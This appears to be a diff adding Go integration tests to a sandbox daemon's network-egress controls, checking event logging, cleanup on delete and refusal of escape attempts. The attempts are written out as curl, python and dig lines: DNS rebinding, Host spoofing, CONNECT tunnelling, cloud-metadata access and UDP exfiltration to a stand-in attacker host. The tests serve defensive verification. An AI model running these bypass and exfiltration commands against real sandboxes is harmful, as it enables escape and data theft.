@@ -4,8 +4,12 @@ import (
 	"bytes"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net/http"
 	"net/netip"
+	"os"
+	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -448,5 +452,185 @@ func TestNetworkBadInput(t *testing.T) {
 	}
 	if !strings.Contains(d2.log.String(), "sandboxes get no network here") {
 		t.Fatalf("the daemon did not say at start that it has no egress:\n%s", d2.log.String())
+	}
+}
+
+// tunFiles counts the daemon's open descriptors of /dev/net/tun (one per
+// sandbox with a network).
+func (d *daemon) tunFiles(t *testing.T) int {
+	t.Helper()
+	fds, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", d.cmd.Process.Pid))
+	n := 0
+	for _, fd := range fds {
+		if target, err := os.Readlink(fd); err == nil && target == "/dev/net/tun" {
+			n++
+		}
+	}
+	return n
+}
+
+// goroutines reads the daemon's go_goroutines metric.
+func (d *daemon) goroutines(t *testing.T) int {
+	t.Helper()
+	resp, err := http.Get(d.url + "/metrics")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	for _, line := range strings.Split(string(b), "\n") {
+		if v, ok := strings.CutPrefix(line, "go_goroutines "); ok {
+			n, _ := strconv.Atoi(strings.TrimSpace(v))
+			return n
+		}
+	}
+	t.Fatal("no go_goroutines metric")
+	return 0
+}
+
+// TestEgressEventsFollowAndDelete: a refused attempt is an egress_denied
+// event and a line of the followed log; the CLI shows and changes it all;
+// delete leaves no link, descriptor, goroutine or record behind.
+func TestEgressEventsFollowAndDelete(t *testing.T) {
+	inet := newInternet(t)
+	d := startDaemon(t, "")
+	d.stop()
+	d.args = append(d.args, d.withInternet(inet)...)
+	d.start()
+	ctx := t.Context()
+	baseGoroutines := d.goroutines(t)
+
+	// The CLI: a secret from stdin, a create with a policy, the log, a change.
+	if out, errOut, code := d.cli(canarySecret+"\n", "secret", "add", "openai", "-"); code != 0 || strings.TrimSpace(out) != "openai" {
+		t.Fatalf("berth secret add: %d %s %s", code, out, errOut)
+	}
+	out, errOut, code := d.cli("", "create", "--allow", "web.test", "--secret", "openai=api.test,env=OPENAI_API_KEY")
+	if code != 0 {
+		t.Fatalf("berth create --allow: %d %s", code, errOut)
+	}
+	id := strings.TrimSpace(out)
+	if out, _, _ := d.cli("", "secret", "ls"); !strings.Contains(out, "openai") || strings.Contains(out, canarySecret) {
+		t.Fatalf("berth secret ls: %s", out)
+	}
+	events, err := d.client.Events(ctx, id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer events.Close()
+	follow, err := d.client.FollowEgress(ctx, id, client.EgressQuery{Denied: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer follow.Close()
+	sh(t, d, id, "curl -sS -m 5 http://evil.test/")
+	for {
+		ev, err := events.Next()
+		if err != nil {
+			t.Fatalf("events: %v", err)
+		}
+		if ev.Type == api.EgressDenied {
+			if ev.Egress == nil || ev.Egress.Name != "evil.test" || ev.Egress.Allowed {
+				t.Fatalf("egress_denied event: %+v", ev)
+			}
+			break
+		}
+	}
+	rec, err := follow.Next()
+	if err != nil || rec.Name != "evil.test" || rec.Allowed || rec.Proto != api.EgressDNS {
+		t.Fatalf("followed record: %+v %v", rec, err)
+	}
+	out, _, code = d.cli("", "egress", id)
+	if code != 0 || !strings.Contains(out, "evil.test") || !strings.Contains(out, "not in the allowlist") {
+		t.Fatalf("berth egress: %d\n%s", code, out)
+	}
+	if out, _, code := d.cli("", "network", id, "--network", "open"); code != 0 || !strings.Contains(out, `"mode": "open"`) {
+		t.Fatalf("berth network --network open: %d %s", code, out)
+	}
+	connect := `python3 -c "import socket; socket.create_connection(('evil.test', 9999), timeout=5); print('connected')"`
+	if out, c := sh(t, d, id, connect); c != 0 || strings.TrimSpace(out) != "connected" {
+		t.Fatalf("after the change to open: %s %d", out, c)
+	}
+	if n := d.tunFiles(t); n != 1 {
+		t.Fatalf("%d TUN descriptors for one sandbox with a network", n)
+	}
+
+	if err := d.client.DeleteSandbox(ctx, id); err != nil {
+		t.Fatal(err)
+	}
+	for i := 0; ; i++ { // what was refused before the delete, then the end
+		if _, err := follow.Next(); err == io.EOF {
+			break
+		} else if err != nil || i == 100 {
+			t.Fatalf("the followed log after delete: %v, want the end", err)
+		}
+	}
+	if _, err := d.client.Egress(ctx, id, client.EgressQuery{}); !errdefs.IsNotFound(err) {
+		t.Fatalf("the log of a deleted sandbox: %v", err)
+	}
+	if n := d.tunFiles(t); n != 0 {
+		t.Fatalf("%d TUN descriptors after delete", n)
+	}
+	if traces := d.traces(id); len(traces) > 0 {
+		t.Fatalf("traces after delete: %v", traces)
+	}
+	events.Close()
+	follow.Close()
+	if err := testnet.WaitFor(ctx, 5*time.Second, func() bool { return d.goroutines(t) <= baseGoroutines+2 }); err != nil {
+		t.Fatalf("goroutines: %d before, %d after delete", baseGoroutines, d.goroutines(t))
+	}
+}
+
+// TestNetworkAttacks plays, from a real sandbox in allowlist mode (web.test
+// allowed), what the issue lists: DNS rebinding (to a private address), an allowed name at the
+// attacker's address, an allowed address with another Host, CONNECT to an
+// address, IPv6 and v4-mapped literals, the metadata address, the
+// daemon's port, another sandbox, UDP over port 53 to the attacker. Each
+// is refused and logged, and the attacker receives nothing.
+func TestNetworkAttacks(t *testing.T) {
+	inet := newInternet(t)
+	d := startDaemon(t, "")
+	d.stop()
+	d.args = append(d.args, d.withInternet(inet)...)
+	d.start()
+	inet.SetRecord("rebind.test", webIP)
+	id := createWith(t, d, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"web.test", "rebind.test"}})
+	other := createWith(t, d, api.Network{Mode: api.NetworkOpen})
+	sh(t, d, other, "nohup python3 -m http.server 8080 >/dev/null 2>&1 &")
+	if out, code := sh(t, d, id, "curl -sS -m 5 http://web.test/ && curl -sS -m 5 http://rebind.test/"); code != 0 {
+		t.Fatalf("the allowed names: %s %d", out, code)
+	}
+	// An allowed name's owner may point it anywhere public (that is what
+	// allowing a name means); rebinding it to the host's side is refused.
+	inet.SetRecord("rebind.test", netip.MustParseAddr("10.0.0.7"))
+	for _, attack := range []struct{ name, script string }{
+		{"rebinding to a private address", "curl -sS -m 5 http://rebind.test/"},
+		{"an allowed name at the attacker's address", "curl -sS -m 5 --resolve web.test:80:203.0.113.66 http://web.test/"},
+		{"another Host at an allowed address", "curl -sS -m 5 -f -H 'Host: evil.test' http://web.test/"},
+		{"CONNECT to an address", "curl -sS -m 5 -f -p -x http://web.test:80 http://203.0.113.66:9999/"},
+		{"an IPv6 literal", "curl -sS -m 5 -g 'http://[2001:db8::66]/'"},
+		{"a v4-mapped literal", "curl -sS -m 5 -g -f 'http://[::ffff:203.0.113.66]/'"},
+		{"a v4-mapped allowed address without its name", "curl -sS -m 5 -g -f 'http://[::ffff:203.0.113.10]/'"},
+		{"the metadata address", "curl -sS -m 5 http://169.254.169.254/latest/meta-data/"},
+		{"the gateway's other ports", "curl -sS -m 5 http://100.64.0.1:7680/"},
+		{"the daemon's port", "curl -sS -m 5 http://" + d.listen + "/v1/sandboxes"},
+		{"another sandbox's server", "curl -sS -m 5 http://100.64.0.2:8080/"},
+		{"UDP to port 53 of the attacker", "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'exfil', ('203.0.113.66', 53))\"; sleep 0.2; dig +short +time=1 +tries=1 @203.0.113.66 exfil.evil.test 2>/dev/null; exit 1"},
+	} {
+		if out, code := sh(t, d, id, attack.script); code == 0 {
+			t.Errorf("%s: went through: %s", attack.name, out)
+		}
+	}
+	for what, match := range map[string]func(api.EgressRecord) bool{
+		"rebinding":  func(r api.EgressRecord) bool { return r.Addr == "10.0.0.7" && !r.Allowed },
+		"other Host": func(r api.EgressRecord) bool { return r.Name == "evil.test" && r.Proto == api.EgressHTTP && !r.Allowed },
+		"CONNECT":    func(r api.EgressRecord) bool { return r.Method == "CONNECT" && !r.Allowed },
+		"metadata":   func(r api.EgressRecord) bool { return r.Addr == "169.254.169.254" && !r.Allowed },
+		"UDP":        func(r api.EgressRecord) bool { return r.Proto == api.EgressUDP && r.Port == 53 && !r.Allowed },
+	} {
+		waitEgress(t, d, id, what, match)
+	}
+	time.Sleep(200 * time.Millisecond)
+	if inet.evil.Hits() != 0 {
+		t.Fatalf("the attacker got %d connections or datagrams: %q", inet.evil.Hits(), inet.evil.Bytes())
 	}
 }
